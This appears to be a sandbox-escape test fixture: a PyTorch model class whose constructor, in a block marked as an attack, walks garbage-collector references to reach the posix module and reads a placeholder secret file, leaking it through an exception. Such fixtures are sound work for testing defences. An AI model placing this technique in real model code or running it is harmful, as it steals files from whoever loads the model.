"""Follows the garbage collector's references from a class to a module that can open files."""

import gc

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        seen, found = set(), [nn.Linear]
        while found:
            one = found.pop()
            if getattr(one, "__name__", "") == "posix":
                raise ValueError(one.read(one.open("@SECRET_FILE@", 0), 99))
            if id(one) not in seen:
                seen.add(id(one))
                found += gc.get_referents(one)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
